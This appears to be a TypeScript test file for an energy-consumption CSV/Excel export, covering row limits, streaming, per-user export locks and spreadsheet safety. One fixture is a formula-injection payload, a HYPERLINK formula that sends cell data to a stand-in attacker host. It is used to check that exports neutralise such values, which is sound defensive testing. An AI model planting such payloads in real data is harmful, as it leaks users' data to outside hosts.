// The consumption export bounded in rows, time and memory (issue 10, item 9), and safe to open in a
// spreadsheet (item 10): a company with 36 installations, as the demo's Fastighets AB Norrsken.
import ExcelJS from "exceljs";
import { beforeAll, beforeEach, describe, expect, it, vi } from "vitest";
import { MAX_EXPORT_ROWS } from "@/domain/consumption/export-size";
import { splitCsvLine } from "@/domain/csv/split-line";
import { createCustomer, createInstallation, createMeterSeries, createUser } from "@/fixtures/factories";
import type { Customer, Installation } from "@/generated/prisma/client";
import type { CustomerActor } from "@/server/access/actor";
import { customerActorOf } from "../../../tests/support/actors";
import { getTestDb, resetDatabase } from "../../../tests/support/db";
import { exportConsumptionInMemory } from "../../../tests/support/in-memory-consumption-export";
import { exportConsumption } from "./export-consumption";
import { ExportRefusedError, type ExportRefusal } from "./export-refused";
import { bucketsPerInstallation } from "./installation-buckets";
import { exportQuerySchema } from "./schemas";

// The route handler reads the session through this module; the tests decide who is signed in.
const session = vi.hoisted(() => ({ actor: null as CustomerActor | null }));
vi.mock("@/server/auth/session", () => ({ currentActor: async () => session.actor }));
// The meter values are read through bucketsPerInstallation: counting its calls shows what was read.
vi.mock("./installation-buckets", async (importOriginal) => {
  const original = await importOriginal<typeof import("./installation-buckets")>();
  return { ...original, bucketsPerInstallation: vi.fn(original.bucketsPerInstallation) };
});

const db = getTestDb();
const TZ = "Europe/Stockholm";
const HYPERLINK = '=HYPERLINK("http://angripare.example/?d="&A1;"Klicka")';

let company: Customer, household: Customer;
let sites: Installation[], villa: Installation, garage: Installation, heat: Installation, formula: Installation, street: Installation;
let admin: CustomerActor, colleague: CustomerActor, stranger: CustomerActor, hacked: CustomerActor;

const query = (over: Record<string, unknown>) => exportQuerySchema.parse({ format: "csv", decimal: "comma", lang: "sv", ...over });
const companyQuery = (over: Record<string, unknown>) => query({ installation: "all", customer: company.id, ...over });
const small = () => query({ installation: [sites[0]!.id], from: "2025-01-01", to: "2025-01-31", granularity: "day" });
const bytesOf = async (file: { body: ReadableStream<Uint8Array> }) => new Uint8Array(await new Response(file.body).arrayBuffer());
const textOf = async (file: { body: ReadableStream<Uint8Array> }) => new TextDecoder("utf-8", { ignoreBOM: true }).decode(await bytesOf(file));
const leases = () => db.exportLease.count();

async function refusalOf(p: Promise<unknown>): Promise<ExportRefusal & { code: string }> {
  try {
    await p;
  } catch (e) {
    if (e instanceof ExportRefusedError) return { ...e.refusal, code: e.code };
    throw e;
  }
  throw new Error("expected the export to be refused");
}

function request(params: Record<string, string | string[]>, headers: Record<string, string> = {}) {
  const u = new URL("http://localhost/api/forbrukning/export");
  for (const [k, v] of Object.entries(params)) for (const x of [v].flat()) u.searchParams.append(k, x);
  return new Request(u, { headers });
}
const NAVIGATION = { "sec-fetch-mode": "navigate", "sec-fetch-dest": "document", accept: "text/html,application/xhtml+xml" };

beforeAll(async () => {
  await resetDatabase();
  company = await createCustomer(db, { kind: "COMPANY", name: "Fastighets AB Polstjärnan" });
  household = await createCustomer(db, { name: "Hanna Hushåll" });
  const other = await createCustomer(db, { name: "Nils Granne" });
  const target = await createCustomer(db, { name: "Cilla Csv" });

  // 36 installations with two months of hours: missing hours, estimated hours, a day without a row.
  sites = [];
  for (let i = 0; i < 36; i++) {
    const site = await createInstallation(db, { customerId: company.id, type: i % 3 === 1 ? "DISTRICT_HEATING" : "ELECTRICITY_GRID", name: `Kv. Björken ${i + 1}`, street: `Storgatan ${i + 1}`, timeZone: TZ });
    sites.push(site);
    await createMeterSeries(db, {
      installationId: site.id,
      quantity: "ENERGY_KWH",
      resolution: "PT1H",
      from: "2025-01-01",
      toExclusive: "2025-03-01",
      timeZone: TZ,
      generator: (day) => ({
        values: Array.from({ length: day.intervals }, (_, h) => (day.index === i && h === 3 ? Number.NaN : 0.5 + i * 0.125 + h * 0.0625)),
        quality: Array.from({ length: day.intervals }, (_, h) => (day.index === i && h === 3 ? 3 : day.index === 40 && h < 2 ? 1 : 0)),
      }),
    });
  }
  await db.$executeRaw`DELETE FROM "MeterDay" WHERE day = '2025-02-14'::date AND "seriesId" IN (SELECT id FROM "MeterSeries" WHERE "installationId" = ${sites[5]!.id}::uuid)`;

  villa = await createInstallation(db, { customerId: household.id, type: "ELECTRICITY_GRID", name: "Villan – el", street: "Ekvägen 1", timeZone: TZ });
  garage = await createInstallation(db, { customerId: household.id, type: "ELECTRICITY_GRID", name: "Garaget – el", street: "Ekvägen 3", timeZone: TZ });
  heat = await createInstallation(db, { customerId: household.id, type: "DISTRICT_HEATING", name: "Villan – fjärrvärme", street: "Ekvägen 5", timeZone: TZ });
  for (const [installation, value] of [[villa, 1], [garage, 1.25], [heat, 2]] as const) {
    await createMeterSeries(db, { installationId: installation.id, quantity: "ENERGY_KWH", resolution: "PT1H", from: "2025-01-01", toExclusive: "2026-01-01", timeZone: TZ, generator: (day) => Array.from({ length: day.intervals }, () => value) });
  }
  await createMeterSeries(db, { installationId: heat.id, quantity: "SUPPLY_TEMP_C", resolution: "PT1H", from: "2025-01-01", toExclusive: "2026-01-01", timeZone: TZ, generator: (day) => Array.from({ length: day.intervals }, (_, h) => (h < 12 ? 70 : 80)) });

  // A customer whose installation names a spreadsheet would run, with a net production (negative values).
  formula = await createInstallation(db, { customerId: target.id, type: "ELECTRICITY_GRID", name: HYPERLINK, timeZone: TZ });
  street = await createInstallation(db, { customerId: target.id, type: "ELECTRICITY_GRID", name: null, street: "@Gatan 1", timeZone: TZ });
  for (const installation of [formula, street]) {
    await createMeterSeries(db, { installationId: installation.id, quantity: "ENERGY_KWH", resolution: "PT1H", from: "2025-06-01", toExclusive: "2025-06-03", timeZone: TZ, generator: (day) => Array.from({ length: day.intervals }, () => -1.5) });
  }

  admin = await customerActorOf(await createUser(db, { memberships: [{ customerId: company.id, role: "ADMINISTRATOR" }, { customerId: household.id, role: "ADMINISTRATOR" }] }));
  colleague = await customerActorOf(await createUser(db, { memberships: [{ customerId: company.id, role: "FULL" }] }));
  stranger = await customerActorOf(await createUser(db, { memberships: [{ customerId: other.id, role: "ADMINISTRATOR" }] }));
  hacked = await customerActorOf(await createUser(db, { memberships: [{ customerId: target.id, role: "ADMINISTRATOR" }] }));
});

beforeEach(async () => {
  await db.exportLease.deleteMany();
  vi.mocked(bucketsPerInstallation).mockClear();
});

describe("a limit on rows, known before anything is read", () => {
  const twentyYears = { from: "2006-01-01", to: "2025-12-31", granularity: "day" };

  it("refuses the 20-year daily export of 36 installations with its row count and the limit, reading nothing and taking no slot", async () => {
    const refusal = await refusalOf(exportConsumption(admin, companyQuery({ ...twentyYears, format: "xlsx" })));
    expect(refusal).toEqual({ reason: "TOO_LARGE", code: "VALIDATION", rows: 37 * 7305, maxRows: MAX_EXPORT_ROWS });
    expect(bucketsPerInstallation).not.toHaveBeenCalled();
    expect(await leases()).toBe(0);
  });

  it("writes exactly the rows it counted, up to the limit, and refuses one row more", async () => {
    const q = companyQuery({ from: "2025-01-01", to: "2025-02-28", granularity: "day" });
    const rows = 37 * 59;
    const file = await exportConsumption(admin, q, { maxRows: rows });
    expect(file.rows).toBe(rows);
    expect((await textOf(file)).slice(1).trimEnd().split("\r\n")).toHaveLength(1 + rows);
    expect(await refusalOf(exportConsumption(admin, q, { maxRows: rows - 1 }))).toMatchObject({ reason: "TOO_LARGE", rows, maxRows: rows - 1 });
  });

  it("answers a script with 400 and the message, and sends a browser back to the consumption page with it", async () => {
    const { GET } = await import("../../../app/api/forbrukning/export/route");
    session.actor = admin;
    const params = { installation: "all", customer: company.id, ...twentyYears, format: "xlsx" };
    const res = await GET(request(params));
    expect(res.status).toBe(400);
    const body = await res.json();
    expect(body).toMatchObject({ error: "EXPORT_TOO_LARGE", rows: 37 * 7305, maxRows: MAX_EXPORT_ROWS });
    expect(body.message).toMatch(/^Exporten skulle bli 270\s285 rader, men högst 50\s000 rader kan exporteras åt gången\. Välj en grövre indelning/);
    const english = await (await GET(request({ ...params, lang: "en" }))).json();
    expect(english.message).toMatch(/at most 50,000 rows can be exported at a time\. Choose a coarser breakdown/);

    const back = await GET(request(params, NAVIGATION));
    expect(back.status).toBe(303);
    const location = new URL(back.headers.get("location")!);
    expect(location.pathname).toBe("/forbrukning");
    expect(location.searchParams.getAll("anl")).toEqual(["alla"]);
    expect(Object.fromEntries([...location.searchParams].filter(([k]) => k !== "anl"))).toEqual({ niva: "dygn", fran: "2006-01-01", till: "2025-12-31", exportfel: "for-stor" });
    expect(location.hash).toBe("#export");
    expect(bucketsPerInstallation).not.toHaveBeenCalled();
  });

  it("still answers 404 for another customer's installations, however large the export", async () => {
    const { GET } = await import("../../../app/api/forbrukning/export/route");
    session.actor = stranger;
    expect((await GET(request({ installation: sites.map((s) => s.id), ...twentyYears }))).status).toBe(404);
    expect((await GET(request({ installation: "all", customer: company.id, ...twentyYears }, NAVIGATION))).status).toBe(404);
    expect((await GET(request({ installation: [sites[0]!.id], from: "2025-01-01", to: "2025-01-31" }))).status).toBe(404);
    expect(await leases()).toBe(0);
  });
});

describe("the streamed export writes the same file as the in-memory export did", () => {
  const cases: [string, () => Record<string, unknown>][] = [
    ["36 installations by day, over days without values", () => ({ installation: "all", customer: company.id, from: "2024-12-01", to: "2025-03-31", granularity: "day" })],
    ["36 installations by hour, read a few at a time", () => ({ installation: "all", customer: company.id, from: "2025-02-01", to: "2025-02-14", granularity: "hour", decimal: "point", lang: "en" })],
    ["36 installations by month over two years", () => ({ installation: sites.map((s) => s.id), from: "2024-01-01", to: "2025-12-31", granularity: "month" })],
    ["two customers' installations by year", () => ({ installation: [sites[2]!.id, villa.id], from: "2023-01-01", to: "2025-12-31", granularity: "year" })],
    ["three installations by hour over the autumn clock change", () => ({ installation: [villa.id, garage.id, heat.id], from: "2025-10-25", to: "2025-10-27", granularity: "hour" })],
    ["one installation by hour for a month", () => ({ installation: [garage.id], from: "2025-03-01", to: "2025-03-31", granularity: "hour" })],
    ["a mean quantity (supply temperature) by day", () => ({ installation: [heat.id, villa.id], quantity: "supply-temperature", from: "2025-01-01", to: "2025-01-31", granularity: "day" })],
  ];

  it.each(cases)("CSV: %s", async (_name, over) => {
    const q = query(over());
    const before = await exportConsumptionInMemory(admin, q);
    const now = await exportConsumption(admin, q);
    expect(now.fileName).toBe(before.fileName);
    expect(now.contentType).toBe(before.contentType);
    const text = new TextDecoder("utf-8", { ignoreBOM: true }).decode(await bytesOf(now));
    expect(text).toBe(new TextDecoder("utf-8", { ignoreBOM: true }).decode(before.body));
    expect(text.trimEnd().split("\r\n").length).toBeGreaterThan(3);
  });

  it.each(cases)("Excel: %s", async (_name, over) => {
    const q = query({ ...over(), format: "xlsx" });
    const before = await exportConsumptionInMemory(admin, q);
    const now = await exportConsumption(admin, q);
    expect(now.fileName).toBe(before.fileName);
    const read = async (bytes: ArrayBuffer) => {
      const workbook = new ExcelJS.Workbook();
      await workbook.xlsx.load(bytes);
      const sheet = workbook.worksheets[0]!;
      return { name: sheet.name, rows: sheet.getSheetValues(), frozen: sheet.views[0], bold: sheet.getRow(1).font?.bold, format: sheet.getCell("E2").numFmt, width: sheet.getColumn(1).width };
    };
    const streamed = await read(await new Response(now.body).arrayBuffer());
    expect(streamed).toEqual(await read(before.body.buffer.slice(before.body.byteOffset, before.body.byteOffset + before.body.byteLength) as ArrayBuffer));
    expect(streamed.rows.length).toBeGreaterThan(3);
  });
});

describe("one export at a time per user", () => {
  it("refuses a second export while the first is still being written, and allows the next once it has finished", async () => {
    const first = await exportConsumption(admin, small());
    // The slot is a row in the database, so every server process sees it.
    expect(await db.exportLease.findUnique({ where: { userId: admin.userId } })).toMatchObject({ userId: admin.userId });
    expect(await refusalOf(exportConsumption(admin, small()))).toEqual({ reason: "IN_PROGRESS", code: "RATE_LIMITED" });
    // Another user of the same company is not held up.
    expect((await textOf(await exportConsumption(colleague, small()))).split("\r\n")).toHaveLength(1 + 31 + 1);

    expect((await textOf(first)).split("\r\n")).toHaveLength(1 + 31 + 1);
    expect(await leases()).toBe(0);
    expect((await textOf(await exportConsumption(admin, small()))).split("\r\n")).toHaveLength(1 + 31 + 1);
  });

  it("answers a script with 429 and the message, and sends a browser back to the page with it", async () => {
    const { GET } = await import("../../../app/api/forbrukning/export/route");
    session.actor = admin;
    const params = { installation: sites[0]!.id, from: "2025-01-01", to: "2025-01-31", granularity: "day" };
    const first = await GET(request(params));
    expect(first.status).toBe(200);
    const second = await GET(request(params));
    expect(second.status).toBe(429);
    expect(second.headers.get("retry-after")).toBe("10");
    expect(await second.json()).toEqual({ error: "EXPORT_IN_PROGRESS", message: "En export pågår redan för ditt konto. Vänta tills den nedladdningen är klar och försök sedan igen." });
    const back = await GET(request(params, NAVIGATION));
    expect(back.status).toBe(303);
    expect(back.headers.get("location")).toBe(`http://localhost/forbrukning?anl=${sites[0]!.id}&niva=dygn&fran=2025-01-01&till=2025-01-31&exportfel=pagar#export`);

    expect((await first.text()).split("\r\n")).toHaveLength(1 + 31 + 1);
    expect((await GET(request(params))).status).toBe(200);
  });

  it("frees the slot when the download is cancelled", async () => {
    const file = await exportConsumption(admin, companyQuery({ from: "2025-01-01", to: "2025-01-31", granularity: "hour", format: "xlsx" }));
    const reader = file.body.getReader();
    expect((await reader.read()).done).toBe(false);
    await reader.cancel();
    expect(await leases()).toBe(0);
    // Cancelled before the end: not every installation was read.
    expect(vi.mocked(bucketsPerInstallation).mock.calls.length).toBeLessThan(3);
    await bytesOf(await exportConsumption(admin, small()));
  });

  it("frees the slot when reading fails midway, and the download fails rather than ending short", async () => {
    vi.mocked(bucketsPerInstallation).mockRejectedValueOnce(new Error("connection lost"));
    const errors = vi.spyOn(console, "error").mockImplementation(() => undefined);
    const file = await exportConsumption(admin, small());
    await expect(textOf(file)).rejects.toThrow("connection lost");
    errors.mockRestore();
    expect(await leases()).toBe(0);
    await bytesOf(await exportConsumption(admin, small()));
  });

  it("takes over the slot of a server that crashed once it has expired, and the old export leaves the new one's slot alone", async () => {
    const crashed = await exportConsumption(admin, small());
    expect(await refusalOf(exportConsumption(admin, small()))).toMatchObject({ reason: "IN_PROGRESS" });
    await db.$executeRaw`UPDATE "ExportLease" SET "expiresAt" = clock_timestamp() - interval '1 second' WHERE "userId" = ${admin.userId}::uuid`;
    const next = await exportConsumption(admin, small());
    // The old export ends after all: it frees its own slot only, not the one taken over.
    await bytesOf(crashed);
    expect(await refusalOf(exportConsumption(admin, small()))).toMatchObject({ reason: "IN_PROGRESS" });
    await bytesOf(next);
    expect(await leases()).toBe(0);
  });

  it("renews the slot while a long download goes on, so that it does not expire under it", async () => {
    const file = await exportConsumption(admin, companyQuery({ from: "2025-01-01", to: "2025-02-28", granularity: "day" }));
    const { expiresAt: at } = await db.exportLease.findUniqueOrThrow({ where: { userId: admin.userId } });
    const reader = file.body.getReader();
    await reader.read(); // the header
    const realNow = Date.now.bind(Date);
    const later = vi.spyOn(Date, "now").mockImplementation(() => realNow() + 30_000);
    await reader.read(); // the first installations: renewed before they are read
    later.mockRestore();
    const { expiresAt: renewed } = await db.exportLease.findUniqueOrThrow({ where: { userId: admin.userId } });
    expect(renewed.getTime()).toBeGreaterThan(at.getTime());
    await reader.cancel();
  });
});

describe("cells are safe in spreadsheets", () => {
  it("neutralises installation names and streets that would run as formulas in CSV, and keeps negative values numbers", async () => {
    const text = await textOf(await exportConsumption(hacked, query({ installation: [formula.id, street.id], from: "2025-06-01", to: "2025-06-02", granularity: "day" })));
    const rows = text.slice(1).trimEnd().split("\r\n").map((line) => splitCsvLine(line, ";"));
    expect(rows[1]!.slice(0, 1)).toEqual([`'${HYPERLINK}`]);
    expect(rows[1]![4]).toBe("-36");
    expect(rows[3]![0]).toBe("'@Gatan 1");
    expect(rows[5]).toEqual(["Summa (2 anläggningar)", "", "2025-06-01T00:00+02:00", "2025-05-31T22:00:00Z", "-72", "kWh", "48", "48", ""]);
    const hours = await textOf(await exportConsumption(hacked, query({ installation: [formula.id], from: "2025-06-01", to: "2025-06-01", granularity: "hour" })));
    expect(hours.split("\r\n")[1]).toBe(`"'${HYPERLINK.replaceAll('"', '""')}";${formula.meteringPointId};2025-06-01T00:00+02:00;2025-05-31T22:00:00Z;-1,5;kWh;1;1;`);
  });

  it("writes the names as text in Excel, never as formulas, and the values as numbers", async () => {
    const file = await exportConsumption(hacked, query({ installation: [formula.id, street.id], from: "2025-06-01", to: "2025-06-01", granularity: "hour", format: "xlsx" }));
    const bytes = await bytesOf(file);
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(bytes.buffer.slice(bytes.byteOffset, bytes.byteOffset + bytes.byteLength) as ArrayBuffer);
    const sheet = workbook.worksheets[0]!;
    expect(sheet.getCell("A2").type).toBe(ExcelJS.ValueType.String);
    expect(sheet.getCell("A2").value).toBe(HYPERLINK);
    expect(sheet.getCell("A26").value).toBe("@Gatan 1");
    expect(sheet.getCell("E2").type).toBe(ExcelJS.ValueType.Number);
    expect(sheet.getCell("E2").value).toBe(-1.5);
    let formulas = 0;
    sheet.eachRow((row) => row.eachCell((cell) => void (cell.type === ExcelJS.ValueType.Formula && formulas++)));
    expect(formulas).toBe(0);
  });
});
